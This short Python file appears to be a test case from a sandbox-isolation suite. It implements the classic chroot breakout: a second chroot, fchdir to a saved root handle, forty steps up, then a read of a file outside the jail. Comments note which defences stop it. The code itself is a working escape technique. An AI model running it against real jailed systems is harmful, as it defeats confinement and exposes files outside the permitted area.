"""Breaks out of a changed root folder the classic way: a second chroot and many steps up."""
# stopped by: seccomp, namespaces
# at D: breach
import os


def attack():
    here = os.open("/", os.O_RDONLY) if os.access("/", os.R_OK) else 0
    os.chroot("@HOME@")
    os.fchdir(here)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return open("@HOME@/notes.txt").read()
